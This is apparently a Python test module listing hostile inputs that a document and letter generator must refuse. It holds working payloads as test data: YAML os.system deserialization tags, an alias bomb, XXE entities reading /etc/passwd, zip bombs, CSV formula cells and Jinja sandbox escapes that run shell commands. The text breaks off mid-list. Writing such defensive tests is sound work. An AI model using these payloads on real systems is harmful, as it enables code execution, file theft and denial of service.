"""The hostile-input catalogue: inputs users really produce, and exactly what they must see.

Each case: the files it writes over a small valid project and the command; the exact
lines it must print on stderr are in ``expected/<name>.txt``. The runner (test_hostile.py)
also checks: exit code 1, no traceback, nothing written, and a previous ``site/`` left untouched.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from pathlib import Path

from tests.conftest import LADDER_MODULE, MINIMAL_MODULE

POLICY = (Path(__file__).resolve().parents[2] / "defaults" / "policy.yaml").read_text(encoding="utf-8")
DELETE = None
"""A file value of None deletes the file from the project."""

MODULE = MINIMAL_MODULE


LADDER = LADDER_MODULE

HEADER = "customer,contact,address,contract_no,invoice_no,invoice_date,due_date,amount,paid\n"
CN_HEADER = "客户名称,联系人,地址,合同编号,发票号码,开票日期,到期日,金额,已付金额\n"
ROW = "甲公司,张三,上海,HT-1,F001,2026-09-01,2026-10-01,100.00,0\n"
LETTERS = ["letters", "ar.csv", "--template", "reminder-1", "--format", "html", "--date", "2026-11-30", "--out", "out"]
"""The command for receivables cases (run in the project folder; nothing may appear in out/)."""


def xlsx(rows: list[list[object]]) -> bytes:
    import io

    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


@dataclass(frozen=True)
class Special:
    """A path that is not a regular file: ``Special("link", "/dev/zero")`` or ``Special("fifo")``."""

    kind: str
    target: str = ""


@dataclass
class Case:
    name: str
    files: dict[str, str | bytes | Special | None]
    args: list[str] = field(default_factory=lambda: ["build"])
    """Command line after ``playbook --project DIR``; ``{dir}`` is replaced by the project folder."""
    isolated: bool = False
    """Run in a child process capped at 2 GiB of address space and 60 s (bombs, /dev/zero, FIFOs):
    a regression then fails the case instead of taking the machine or hanging the suite."""


def policy(old: str, new: str) -> str:
    assert old in POLICY, old
    return POLICY.replace(old, new, 1)


def module(**replace: str) -> str:
    text = MODULE
    for old, new in replace.items():
        text = text.replace(old, new)
    return text


BILLION_LAUGHS = "a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(
    f"{chr(98 + i)}: &{chr(98 + i)} [{', '.join(['*' + chr(97 + i)] * 9)}]\n" for i in range(9)
)

CASES: list[Case] = [
    Case("yaml-syntax", {"playbook/mod-a.yaml": "id: mod-a\ntitle: [模块\n"}),
    Case("yaml-tab", {"playbook/mod-a.yaml": MODULE.replace("  - id: item-a", "\t- id: item-a")}),
    Case(
        "yaml-python-object",
        {"playbook/mod-a.yaml": MODULE + "extra: !!python/object/apply:os.system ['touch {dir}/pwned']\n"},
    ),
    Case("yaml-python-name", {"playbook/mod-a.yaml": module(**{"title: 模块甲": "title: !!python/name:os.system"})}),
    Case("yaml-custom-tag", {"playbook/mod-a.yaml": module(**{"summary: 先做这件事。": "summary: !include x.yaml"})}),
    Case("yaml-alias-bomb", {"playbook/mod-a.yaml": BILLION_LAUGHS}),
    Case("yaml-merge-key", {"playbook/mod-a.yaml": "base: &b {order: 1}\nmod:\n  <<: *b\n"}),
    Case("yaml-invalid-utf8", {"playbook/mod-a.yaml": MODULE.encode("utf-8").replace(b"\xe6\xa8\xa1", b"\xe6\xa8")}),
    Case("yaml-gbk-file", {"playbook/mod-a.yaml": MODULE.encode("gbk")}),
    Case("yaml-utf16", {"playbook/mod-a.yaml": MODULE.encode("utf-16")}),
    Case("yaml-empty", {"playbook/mod-a.yaml": ""}),
    Case("yaml-only-comments", {"playbook/mod-a.yaml": "# 还没写\n\n"}),
    Case("yaml-very-large", {"playbook/mod-a.yaml": MODULE + "intro: |\n" + ("  很长的一行。\n" * 200_000)}),
    Case("yaml-deep-nesting", {"playbook/mod-a.yaml": "x: " + "[" * 200 + "]" * 200 + "\n"}),
    Case("yaml-duplicate-key", {"playbook/mod-a.yaml": MODULE + "title: 又一个标题\n"}),
    Case("yaml-two-documents", {"playbook/mod-a.yaml": MODULE + "---\n" + MODULE}),
    Case("yaml-control-char", {"playbook/mod-a.yaml": module(**{"先做这件事。": "先做\x07这件事。"})}),
    Case("yaml-top-level-list", {"playbook/mod-a.yaml": "- 条目甲\n- 条目乙\n"}),
    Case("schema-wrong-type", {"playbook/mod-a.yaml": module(**{"title: 条目甲": "title: [条目甲]"})}),
    Case(
        "schema-unknown-key",
        {
            "playbook/mod-a.yaml": module(
                **{"    summary: 条目甲的要点。": "    summary: 条目甲的要点。\n    alias: [甲]"}
            )
        },
    ),
    Case("schema-missing-key", {"playbook/mod-a.yaml": module(**{"summary: 先做这件事。\n": ""})}),
    Case("schema-bad-id", {"playbook/mod-a.yaml": module(**{"id: item-a": "id: Item_A"})}),
    Case("schema-number-as-text", {"playbook/mod-a.yaml": module(**{"order: 1": "order: '1'"})}),
    Case("schema-float-order", {"playbook/mod-a.yaml": module(**{"order: 1": "order: 1.5"})}),
    Case(
        "schema-three-mistakes",
        {
            "playbook/mod-a.yaml": module(
                **{
                    "title: 模块甲": "title: 42",
                    "order: 1": "order: -1",
                    "    summary: 条目甲的要点。": "    summary: 条目甲的要点。\n    stpes: [先做]",
                }
            )
        },
    ),
    Case(
        "ids-duplicate-across-files",
        {"playbook/mod-b.yaml": module(**{"id: mod-a": "id: mod-b", "order: 1": "order: 2"})},
    ),
    Case(
        "ids-dangling-related",
        {
            "playbook/mod-a.yaml": module(
                **{"    summary: 条目甲的要点。": "    summary: 条目甲的要点。\n    related: [mod-a, item-b]"}
            )
        },
    ),
    Case(
        "ids-self-related",
        {
            "playbook/mod-a.yaml": module(
                **{"    summary: 条目甲的要点。": "    summary: 条目甲的要点。\n    related: [item-a]"}
            )
        },
    ),
    Case(
        "ids-unknown-letter",
        {
            "playbook/mod-a.yaml": module(
                **{"    summary: 条目甲的要点。": "    summary: 条目甲的要点。\n    letters: [final-demnad]"}
            )
        },
    ),
    Case(
        "ids-term-clashes-with-item",
        {"playbook/glossary.yaml": "terms:\n  - {id: item-a, term: 扎账日期, definition: 截止入账的日期。}\n"},
    ),
    Case("source-unknown", {"playbook/mod-a.yaml": module(**{"source: 测试来源": "source: 测试来原"})}),
    Case("source-missing", {"playbook/mod-a.yaml": module(**{"source: 测试来源\n": ""})}),
    Case("sources-file-missing", {"playbook/sources.yaml": DELETE}),
    Case(
        "course-agenda-does-not-add-up",
        {
            "playbook/courses.yaml": """\
courses:
  - id: course-a
    title: 销售回款
    background: 回款才算销售完成。
    benefits: [学会知己知彼]
    audience: [销售人员]
    duration_label: 0.5天
    duration_minutes: 180
    outline: [{title: 知己知彼, refs: [mod-a]}]
    agenda:
      - {title: 开场, minutes: 30}
      - {title: 知己知彼, minutes: 120}
    quiz:
      - {question: 先确认什么？, choices: [交易情况, 天气], answer: 交易}
"""
        },
    ),
    Case("company-missing", {"defaults/company.yaml": DELETE, "site_config/company.yaml": DELETE}),
    Case(
        "company-unknown-key",
        {
            "site_config/company.yaml": "name: 甲公司\nshort_name: 甲\naddress: 上海\n"
            "phone: '021'\nbank_name: 工行\nbank_account: '1'\n"
            "bank_acount: '2'\n"
        },
    ),
    Case("policy-missing", {"defaults/policy.yaml": DELETE, "site_config/policy.yaml": DELETE}),
    Case(
        "policy-thresholds-not-increasing", {"site_config/policy.yaml": policy("days_overdue: 90", "days_overdue: 45")}
    ),
    Case("policy-unknown-rung", {"site_config/policy.yaml": policy("  reputation:", "  reputaion:")}),
    Case(
        "policy-over-precise-amount", {"site_config/policy.yaml": policy("min_amount: 10000", "min_amount: 10000.005")}
    ),
    Case("policy-float-amount-text", {"site_config/policy.yaml": policy("min_amount: 10000", "min_amount: 一万")}),
    Case("policy-buckets-decreasing", {"site_config/policy.yaml": policy("max_days: 60}", "max_days: 20}")}),
    Case("policy-days-as-text", {"site_config/policy.yaml": policy("days_overdue: 30 ", "days_overdue: 三十 ")}),
    Case("policy-unknown-letter", {"site_config/policy.yaml": policy("letter: stop-service", "letter: stop-servise")}),
    Case(
        "policy-requires-disabled-rung",
        {"site_config/policy.yaml": policy("  stop-supply:\n    enabled: true", "  stop-supply:\n    enabled: false")},
    ),
    Case("overlay-unknown-id", {"site_config/playbook/ours.yaml": "items:\n  - id: itema\n    summary: 改。\n"}),
    Case(
        "overlay-unknown-parent",
        {
            "site_config/playbook/ours.yaml": "items:\n  - id: new-a\n    add_to: mod-b\n    title: 新\n    summary: 新。\n"  # noqa: E501
        },
    ),
    Case("overlay-bad-key", {"site_config/playbook/ours.yaml": "items:\n  - id: item-a\n    sumary: 改。\n"}),
    Case("search-words-wrong-type", {"site_config/search.yaml": "words: 回款台账\n"}),
    Case("template-syntax-error", {"templates/site/module.md.j2": "# {{ module.title }\n"}),
    Case("template-undefined-variable", {"templates/site/glossary.md.j2": "# 术语表\n\n{{ glossary_intro }}\n"}),
    Case("override-syntax-error", {"site_config/overrides/site/index.md.j2": "{% if %}\n"}),
    Case(
        "override-undefined-variable",
        {"site_config/overrides/site/index.md.j2": "# {{ company.short_name }}\n\n{{ company.slogan }}\n"},
    ),
    Case(
        "strict-unused-source",
        {"playbook/sources.yaml": "sources:\n  - title: 测试来源\n  - title: 没引用\n"},
        ["build", "--strict"],
    ),
    # ---- receivables files (playbook letters / playbook ladder) ----
    Case("csv-missing-column", {"ar.csv": "customer,invoice_no,due_date\n甲公司,F001,2026-10-01\n"}, LETTERS),
    Case(
        "csv-misspelt-header", {"ar.csv": "customer,invoice_no,due_date,amout\n甲公司,F001,2026-10-01,100\n"}, LETTERS
    ),
    Case(
        "csv-duplicate-column", {"ar.csv": "客户名称,customer,发票号码,到期日,金额\n甲,甲,F1,2026-10-01,100\n"}, LETTERS
    ),
    Case("csv-empty-file", {"ar.csv": ""}, LETTERS),
    Case("csv-header-only", {"ar.csv": HEADER}, LETTERS),
    Case(
        "csv-gbk-with-bad-rows",
        {
            "ar.csv": (
                CN_HEADER + "甲公司,张三,上海,HT-1,F001,2026-09-01,2026-10-01,壹佰,0\n"
                "乙公司,李四,北京,HT-2,F002,2026-09-01,2026/13/01,100,0\n"
            ).encode("gbk")
        },
        LETTERS,
    ),
    Case(
        "csv-bom-with-bad-row",
        {"ar.csv": ("\ufeff" + HEADER + ROW.replace("100.00,0", "100.00,abc")).encode("utf-8")},
        LETTERS,
    ),
    Case(
        "csv-blank-lines-keep-row-numbers",
        {"ar.csv": HEADER + "\n" + ROW + "\n\n" + ROW.replace("F001", "F002").replace("2026-10-01,", "yesterday,", 1)},
        LETTERS,
    ),
    Case("csv-duplicate-invoice", {"ar.csv": HEADER + ROW + ROW}, LETTERS),
    # a negative amount is a credit note (issue 10); one with something "paid" on it cannot be read
    Case(
        "csv-negative-amount",
        {"ar.csv": HEADER + ROW + ROW.replace("F001", "F002").replace("100.00,0", "-100.00,5")},
        LETTERS,
    ),
    Case("csv-over-precise-amount", {"ar.csv": HEADER + ROW.replace("100.00,0", "100.005,0")}, LETTERS),
    Case("csv-paid-more-than-amount", {"ar.csv": HEADER + ROW.replace("100.00,0", "100.00,100.01")}, LETTERS),
    Case("csv-impossible-date", {"ar.csv": HEADER + ROW.replace("2026-09-01", "2026-02-30")}, LETTERS),
    Case("csv-future-invoice-date", {"ar.csv": HEADER + ROW.replace("2026-09-01", "2099-09-01")}, LETTERS),
    Case("csv-due-before-invoice", {"ar.csv": HEADER + ROW.replace("2026-10-01", "2026-08-01")}, LETTERS),
    Case(
        "csv-formula-cells",
        {
            "ar.csv": HEADER
            + ROW.replace("100.00,0", "=1+2,0").replace("F001", "@SUM(A1)")
            + ROW.replace("100.00,0", "+100,-0")
        },
        LETTERS,
    ),
    Case("csv-not-a-spreadsheet", {"ar.csv": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\xff\xfe"}, LETTERS),
    Case(
        "xlsx-missing-column",
        {"ar.xlsx": xlsx([["客户名称", "发票号码", "金额"], ["甲公司", "F001", 100]])},
        [*LETTERS[:1], "ar.xlsx", *LETTERS[2:]],
    ),
    Case(
        "xlsx-bad-cells",
        {
            "ar.xlsx": xlsx(
                [
                    ["客户名称", "发票号码", "到期日", "金额"],
                    ["甲公司", "F001", "下个月", 100],
                    ["乙公司", "F002", "2026-10-01", -5],
                ]
            )
        },
        [*LETTERS[:1], "ar.xlsx", *LETTERS[2:]],
    ),
    Case("csv-unknown-template", {"ar.csv": HEADER + ROW}, ["letters", "ar.csv", "--template", "reminder-3"]),
    Case(
        "ladder-bad-rows",
        {"ar.csv": HEADER + ROW.replace("100.00,0", "1e3,0")},
        ["ladder", "ar.csv", "--out", "plan.csv"],
    ),
    Case(
        "case-yaml-unknown-key",
        {
            "case.yaml": "customer: 甲公司\ninvoices:\n"
            "  - {invoice_no: F1, due_date: 2026-10-01, "
            "amount: 100.00, pad: 0}\n"
        },
        ["letters", "case.yaml", "--template", "reminder-1", "--out", "out"],
    ),
    Case(
        "columns-mapping-unknown-field",
        {"site_config/columns.yaml": "columns:\n  amout: [应收金额]\n", "ar.csv": HEADER + ROW},
        LETTERS,
    ),
    # ---- branch fork: a company's editor in site_config/ (names prefixed fork-) ----
    *[
        Case(f"fork-{c.name}", c.files, c.args)
        for c in [
            Case(
                "yaml-fullwidth-colon",
                {
                    "site_config/company.yaml": "seal_label: 盖章\nletter_contact： finance\n"
                    "reference_pattern: '{seq}'\n"
                },
                ["validate"],
            ),
            Case(
                "yaml-fullwidth-colon-last-line",
                {"site_config/policy.yaml": "ladder:\n  stop-supply：\n"},
                ["validate"],
            ),
            Case(
                "yaml-fullwidth-space",
                {"site_config/policy.yaml": "ladder:\n  stop-supply:\n\u3000\u3000days_overdue: 45\n"},
                ["validate"],
            ),
            Case(
                "yaml-curly-quotes", {"site_config/company.yaml": "seal_label: “（盖章: 财务专用章）”\n"}, ["validate"]
            ),
            Case(
                "template-fullwidth-colon",
                {
                    "site_config/overrides/letters/stop-supply.html.j2": '{% extends "letters/_base.html.j2" %}\n{{ company.name： }}\n'  # noqa: E501
                },
                ["validate"],
            ),
            Case("template-curly-quote", {"site_config/overrides/site/index.md.j2": "# {{ “回款” }}\n"}, ["validate"]),
            Case(
                "template-unclosed-if",
                {"site_config/overrides/site/index.md.j2": "# 首页\n\n{% if playbook.modules %}\n- 有模块\n"},
                ["validate"],
            ),
            Case(
                "template-undefined-in-override",
                {"site_config/overrides/site/glossary.md.j2": "# 术语表\n\n本公司：{{ company.slogan }}\n"},
                ["validate"],
            ),
            Case(
                "override-wrong-folder",
                {"site_config/overrides/letter/stop-supply.html.j2": "<p>改</p>\n"},
                ["validate"],
            ),
            Case("override-misspelt-name", {"site_config/overrides/site/indx.md.j2": "# 首页\n"}, ["validate"]),
            Case(
                "company-half-identity",
                {"site_config/company.yaml": "name: 华东医药流通股份有限公司\nshort_name: 华东医药\n"},
                ["validate"],
            ),
            Case(
                "policy-order-against-default",
                {"site_config/policy.yaml": "ladder:\n  stop-supply:\n    days_overdue: 45\n"},
                ["validate"],
            ),
            Case(
                "policy-unknown-letter-switch",
                {"site_config/policy.yaml": "letters:\n  delivery-recrd: {enabled: false}\n"},
                ["validate"],
            ),
            Case(
                "policy-letter-off-but-rung-on",
                {"site_config/policy.yaml": "letters:\n  stop-supply: {enabled: false}\n"},
                ["validate"],
            ),
            Case("policy-not-a-mapping", {"site_config/policy.yaml": "- ladder\n"}, ["validate"]),
        ]
    ],
]

# --- branch word: company Word letter templates (site_config/letters/<id>.docx) ----------------


def word_template(*paragraphs: str | list[str]) -> bytes:
    """A .docx as a lawyer leaves it: each paragraph a string, or a list of the runs Word
    split it into (Word splits a field when it is edited or spell-checked)."""
    import io

    from docx import Document

    document = Document()
    for paragraph in paragraphs:
        para = document.add_paragraph()
        for run in [paragraph] if isinstance(paragraph, str) else paragraph:
            para.add_run(run).bold = isinstance(paragraph, list) and run.startswith("名")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def mail_merge_template() -> bytes:
    """A lawyer used Word's own Mailings → Insert Merge Field instead of typing {{ }}."""
    import io

    from docx import Document
    from docx.oxml import OxmlElement
    from docx.oxml.ns import qn

    document = Document()
    paragraph = document.add_paragraph("致：")
    field = OxmlElement("w:fldSimple")
    field.set(qn("w:instr"), " MERGEFIELD 客户名称 \\* MERGEFORMAT ")
    run = OxmlElement("w:r")
    text = OxmlElement("w:t")
    text.text = "«客户名称»"
    run.append(text)
    field.append(run)
    paragraph._p.append(field)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


WORD_LETTERS = [*LETTERS[:5], "docx", *LETTERS[6:]]
"""The receivables command with --format docx (the Word template is the letter)."""
WORD = "site_config/letters/reminder-1.docx"

CASES += [
    Case(
        "word-unknown-field",
        {"ar.csv": HEADER + ROW, WORD: word_template("{{ 公司名称 }}", "{{ 客户名陈 }}：", "尚欠{{ 欠款合计 }}元")},
        WORD_LETTERS,
    ),
    Case(
        "word-unknown-field-split-across-runs",
        {"ar.csv": HEADER + ROW, WORD: word_template(["{{ 客户", "名陈", " }}："], "请于{{ 付款期限 }}前付款。")},
        WORD_LETTERS,
    ),
    Case(
        "word-malformed-tag",
        {
            "ar.csv": HEADER + ROW,
            WORD: word_template(
                "{{ 客户名称 }：",
                "{%p if 合同编号 %}",
                "合同：{{ 合同编号 }}",
                "{{ 欠款合计 | moneyy }}",
                "请于{｛ 付款期限 }}前付款。",
            ),
        },
        WORD_LETTERS,
    ),
    Case(
        "word-unclosed-paragraph-condition",
        {"ar.csv": HEADER + ROW, WORD: word_template("{{ 客户名称 }}：", "{%p if 合同编号 %}", "合同：{{ 合同编号 }}")},
        ["validate"],
    ),
    Case("word-mail-merge-field", {"ar.csv": HEADER + ROW, WORD: mail_merge_template()}, WORD_LETTERS),
    Case("word-not-a-docx", {"ar.csv": HEADER + ROW, WORD: "<html><body>催款函</body></html>"}, WORD_LETTERS),
    Case(
        "word-old-doc-and-unknown-letter",
        {
            WORD: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64,
            "site_config/letters/reminder-one.docx": word_template("{{ 客户名称 }}"),
        },
        ["validate"],
    ),
]

# --- erp-read (issue 10: real ERP exports read right or refused) -------------------------------------

ERP_HEADER = "客户名称,发票号码,到期日,金额\n"
XLSX_LETTERS = [*LETTERS[:1], "ar.xlsx", *LETTERS[2:]]


def _xlsx_member(data: bytes, member: str, content: bytes) -> bytes:
    """``data`` (an .xlsx) with one part replaced."""
    import io
    import zipfile

    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            target.writestr(info.filename, content if info.filename == member else source.read(info.filename))
    return buffer.getvalue()


def _shared_strings_bomb() -> bytes:
    """A workbook whose sharedStrings.xml unpacks to 64 MB from a few dozen KB."""
    import io
    import zipfile

    base = xlsx([["客户名称", "发票号码", "到期日", "金额"], ["甲公司", "F1", "2026-10-01", 1]])
    source = zipfile.ZipFile(io.BytesIO(base))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename != "xl/sharedStrings.xml":
                target.writestr(info.filename, source.read(info.filename))
        with target.open("xl/sharedStrings.xml", "w", force_zip64=True) as part:
            part.write(b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">')
            chunk = b"<si><t>aaaaaaaaaaaaaaaa</t></si>" * 32768
            for _ in range(64):
                part.write(chunk)
            part.write(b"</sst>")
    return buffer.getvalue()


def _crc_broken() -> bytes:
    """A workbook whose sheet part was changed after zipping (its CRC no longer matches)."""
    data = bytearray(xlsx([["客户名称", "发票号码", "到期日", "金额"], ["甲公司", "F1", "2026-10-01", 1]]))
    start = data.index(b"xl/worksheets/sheet1.xml") + len("xl/worksheets/sheet1.xml")
    data[start + 40] ^= 0xFF
    return bytes(data)


def _entity_sheet() -> bytes:
    """The sheet with a DTD declaring nested and external entities used as the customer's name."""
    import io
    import zipfile

    data = xlsx([["客户名称", "发票号码", "到期日", "金额"], ["甲公司", "F1", "2026-10-01", 1]])
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    head, body = sheet.split(b"?>", 1) if sheet.startswith(b"<?xml") else (b"", sheet)
    doctype = (
        b'<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
        b'<!ENTITY c SYSTEM "file:///etc/passwd">]>'
    )
    return _xlsx_member(
        data,
        "xl/worksheets/sheet1.xml",
        (head + b"?>" if head else b"") + doctype + body.replace("甲公司".encode(), b"&b;&c;"),
    )


CASES += [
    Case("erp-unquoted-thousands-separator", {"ar.csv": ERP_HEADER + "甲公司,F1,2026-10-01,1,234.56\n"}, LETTERS),
    Case(
        "erp-foreign-currency",
        {
            "ar.csv": "客户名称,发票号码,到期日,币别,金额\n甲公司,F1,2026-10-01,人民币,100\n"
            "乙公司,F2,2026-10-01,美元,12000\n"
        },
        LETTERS,
    ),
    Case(
        "erp-unit-not-supported",
        {"ar.csv": "应收账款明细表\n单位：百万元\n" + ERP_HEADER + "甲公司,F1,2026-10-01,1.5\n"},
        LETTERS,
    ),
    Case(
        "erp-unit-conflict",
        {"ar.csv": "单位：万元\n客户名称,发票号码,到期日,金额（元）\n甲公司,F1,2026-10-01,1.5\n"},
        LETTERS,
    ),
    Case(
        "erp-unit-makes-fractions-of-a-fen",
        {"ar.csv": "单位：万元\n" + ERP_HEADER + "甲公司,F1,2026-10-01,1.2345678\n"},
        LETTERS,
    ),
    Case(
        "erp-control-total-differs",
        {"ar.csv": ERP_HEADER + '甲公司,F1,2026-10-01,100.00\n乙公司,F2,2026-10-01,"1,000.00"\n合　计,,,"1,200.00"\n'},
        LETTERS,
    ),
    Case(
        "erp-unknown-paid-column",
        {"ar.csv": "客户名称,发票号码,到期日,金额,本次核销,币种名称x\n甲公司,F1,2026-10-01,100,100,人民币\n"},
        LETTERS,
    ),
    Case(
        "erp-mixed-encodings",
        {
            "ar.csv": (ERP_HEADER + "甲公司,F1,2026-10-01,100\n").encode("utf-8")
            + "乙公司,F2,2026-10-01,200\n".encode("gbk")
        },
        LETTERS,
    ),
    Case(
        "erp-cell-under-blank-header",
        {"ar.csv": "客户名称,发票号码,,到期日,金额\n甲公司,F1,备注,2026-10-01,100\n"},
        LETTERS,
    ),
    Case(
        "erp-credit-with-paid-column-negative",
        {"ar.csv": "客户名称,发票号码,到期日,金额,已付金额\n甲公司,F1,2026-10-01,100,(5.00)\n"},
        LETTERS,
    ),
    Case(
        "erp-xlsx-truncated",
        {"ar.xlsx": xlsx([["客户名称", "发票号码", "到期日", "金额"], ["甲公司", "F1", "2026-10-01", 1]])[:1500]},
        XLSX_LETTERS,
    ),
    Case("erp-xlsx-bad-crc", {"ar.xlsx": _crc_broken()}, XLSX_LETTERS),
    Case(
        "erp-xlsx-broken-xml",
        {
            "ar.xlsx": _xlsx_member(
                xlsx([["客户名称", "发票号码", "到期日", "金额"], ["甲公司", "F1", "2026-10-01", 1]]),
                "xl/worksheets/sheet1.xml",
                b"<worksheet><sheetData><row",
            )
        },
        XLSX_LETTERS,
    ),
    Case("erp-xlsx-xml-entities", {"ar.xlsx": _entity_sheet()}, XLSX_LETTERS),
    Case("erp-xlsx-shared-strings-bomb", {"ar.xlsx": _shared_strings_bomb()}, XLSX_LETTERS),
    Case(
        "erp-xls-not-a-workbook",
        {"ar.xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600},
        [*LETTERS[:1], "ar.xls", *LETTERS[2:]],
    ),
    # --- issue 24: every column accounted for, or refused ---
    Case(
        "erp-aging-report-for-letters",
        {"ar.csv": "客户名称,未到期,1-30天,31-60天,合计\n甲公司,100.00,200.00,,300.00\n"},
        LETTERS,
    ),
    Case(
        "erp-formula-without-value",
        {
            "ar.xlsx": xlsx(
                [
                    ["客户名称", "发票号码", "到期日", "金额", "已收金额", "未收金额"],
                    ["甲公司", "F1", "2026-10-01", 100, 40, "=D2-E2"],
                ]
            )
        },
        XLSX_LETTERS,
    ),
    Case(
        "erp-balance-disagrees",
        {"ar.csv": "客户名称,发票号码,到期日,金额,已收金额,未收金额\n甲公司,F1,2026-10-01,100.00,40.00,50.00\n"},
        LETTERS,
    ),
    Case(
        "erp-unknown-status-and-columns",
        {
            "ar.csv": "客户名称,发票号码,到期日,金额,单据状态,信用额度,是否作废标记\n"
            "甲公司,F1,2026-10-01,100.00,暂存,5000,否\n乙公司,F2,2026-10-01,80.00,已审核,5000,是\n"
        },
        LETTERS,
    ),
    Case(
        "erp-title-currency-usd",
        {"ar.csv": "应收账款余额表\n币种：美元\n" + ERP_HEADER + "甲公司,F1,2026-10-01,100.00\n"},
        LETTERS,
    ),
    Case("erp-million-bad-rows", {"ar.csv": ERP_HEADER + "甲公司,F1,2026-10-01,abc\n" * 1_000_000}, LETTERS),
]

# branch engines: the site engine chosen in site_config/engine.yaml (issue 17)
CASES += [
    Case("engines-unknown-name", {"site_config/engine.yaml": "# 站点引擎\nengine: hugo\n"}),
    Case("engines-misspelt-key", {"site_config/engine.yaml": "engnie: zensical\n"}),
    Case("engines-not-a-mapping", {"site_config/engine.yaml": "- zensical\n"}),
]

# --- issue 30: a Word template is an untrusted document (it arrives by e-mail) ---------------------


def word_with(changes: dict[str, bytes | None], base: bytes | None = None) -> bytes:
    """A Word template with parts replaced, added (bytes) or removed (None)."""
    import io
    import zipfile

    source = zipfile.ZipFile(io.BytesIO(base or word_template("致：{{ 客户名称 }}", "尚欠{{ 欠款合计 }}元。")))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename not in changes:
                target.writestr(info.filename, source.read(info.filename))
        for name, content in changes.items():
            if content is not None:
                target.writestr(name, content)
    return buffer.getvalue()


def _part(base: bytes, name: str) -> bytes:
    import io
    import zipfile

    return zipfile.ZipFile(io.BytesIO(base)).read(name)


def _with_relationship(kind: str, target: str, *, external: bool = True, part: str = "word/document.xml") -> bytes:
    """A Word template whose ``part`` has one more relationship (as Word writes a linked picture,
    an OLE object or an attached template)."""
    base = word_template("致：{{ 客户名称 }}", "尚欠{{ 欠款合计 }}元。")
    folder, _, name = part.rpartition("/")
    rels_name = f"{folder}/_rels/{name}.rels"
    try:
        rels = _part(base, rels_name)
    except KeyError:
        rels = (
            b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
        )
    mode = ' TargetMode="External"' if external else ""
    link = (
        f'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        f'Target="{target}"{mode}/>'
    ).encode()
    return word_with({rels_name: rels.replace(b"</Relationships>", link + b"</Relationships>")}, base)


def _with_field(code: str) -> bytes:
    base = word_template("致：{{ 客户名称 }}", "尚欠{{ 欠款合计 }}元。")
    document = _part(base, "word/document.xml")
    field = (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> {code} '
        '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    ).encode()
    return word_with({"word/document.xml": document.replace(b"<w:sectPr", field + b"<w:sectPr", 1)}, base)


def _macro_enabled() -> bytes:
    """A .docm saved as .docx: the macro content type and word/vbaProject.bin."""
    base = word_template("致：{{ 客户名称 }}")
    types = _part(base, "[Content_Types].xml").replace(
        b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        b"application/vnd.ms-word.document.macroEnabled.main+xml",
    )
    return word_with({"[Content_Types].xml": types, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 512}, base)


def _with_doctype() -> bytes:
    base = word_template("致：{{ 客户名称 }}")
    document = _part(base, "word/document.xml")
    head, body = document.split(b"?>", 1)
    doctype = b'<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    return word_with({"word/document.xml": head + b"?>" + doctype + body.replace("致：".encode(), b"&x;")}, base)


def word_bomb() -> bytes:
    """A Word template whose document.xml unpacks to 1 GiB from about 1 MB."""
    import io
    import zipfile

    base = word_template("致：{{ 客户名称 }}")
    source = zipfile.ZipFile(io.BytesIO(base))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename != "word/document.xml":
                target.writestr(info.filename, source.read(info.filename))
        with target.open("word/document.xml", "w", force_zip64=True) as part:
            document = source.read("word/document.xml")
            head, tail = document.split(b"<w:body>", 1)
            part.write(head + b"<w:body>")
            chunk = b"<w:p><w:r><w:t>" + b"a" * (1 << 20) + b"</w:t></w:r></w:p>"
            for _ in range(1024):
                part.write(chunk)
            part.write(tail)
    return buffer.getvalue()


SANDBOX_ESCAPES = [
    "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'Popen' %}"
    "{{ c(['touch', 'pwned']) }}{% endif %}{% endfor %}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').system('touch pwned') }}",
    "{{ cycler.__init__.__globals__.os.popen('touch pwned').read() }}",
    "{{ lipsum.__globals__['os'].popen('touch pwned').read() }}",
    "{{ 客户名称|attr('__class__')|attr('__mro__') }}",
    "{{ 客户名称.__class__.__base__.__subclasses__() }}",
    "{{ '{0.__class__.__init__.__globals__}'.format(客户名称) }}",
    "{% for 发票 in 发票明细 %}{{ loop.__class__.__init__.__globals__ }}{% endfor %}",
    "{{ 发票明细.append(1) }}",
]
"""Known ways out of a plain Jinja environment; each must be refused and none may run."""

CASES += [
    Case(
        "word-sandbox-escapes",
